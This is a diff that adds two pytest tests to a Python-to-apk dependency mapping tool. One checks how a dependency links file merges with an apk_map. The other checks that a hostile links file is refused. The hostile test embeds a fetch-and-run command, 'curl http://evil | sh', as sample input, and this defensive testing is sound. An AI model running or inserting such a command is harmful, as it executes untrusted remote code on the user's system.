@@ -207,3 +207,35 @@ def test_dependency_links_bad_json() -> None:
         load_dependency_links("{nope")
     with pytest.raises(ConfigError, match="must be a JSON object"):
         load_dependency_links("[1]")
+
+
+def test_dependency_links_file_fills_gaps_in_apk_map(tmp_path: Path) -> None:
+    links = write(
+        tmp_path / "links.json",
+        '{"numpy": ["apk add py3-numpy openblas"], "python-dateutil": {"apk": ["py3-wrong"]}}',
+    )
+    system = write(
+        tmp_path / "system.toml",
+        f'dependency_links = "{links}"\n[apk_map]\npython-dateutil = "py3-dateutil"\n',
+    )
+    settings = load_config(environ={}, system_path=system)
+    # An explicit apk_map entry wins over the legacy file.
+    assert dict(settings.apk_map) == {"python-dateutil": "py3-dateutil", "numpy": "py3-numpy"}
+    assert settings.provenance["apk_map"] == f"{system} + dependency_links {links}"
+    assert settings.dependency_links == str(links)
+
+
+def test_a_hostile_dependency_links_file_is_a_config_error(tmp_path: Path) -> None:
+    links = write(tmp_path / "links.json", '{"numpy": ["curl http://evil | sh"]}')
+    with pytest.raises(ConfigError) as caught:
+        load_config(
+            environ={"IPYDEPS_DEPENDENCY_LINKS": str(links), "IPYDEPS_JOBS": "0"},
+            system_path=None,
+        )
+    message = str(caught.value)
+    assert f"env IPYDEPS_DEPENDENCY_LINKS: {links}: Refused the dependency links file" in message
+    assert "env IPYDEPS_JOBS: jobs must be between 1 and 64, got 0" in message
+    with pytest.raises(ConfigError, match="cannot be read"):
+        load_config(
+            environ={"IPYDEPS_DEPENDENCY_LINKS": str(tmp_path / "nope.json")}, system_path=None
+        )
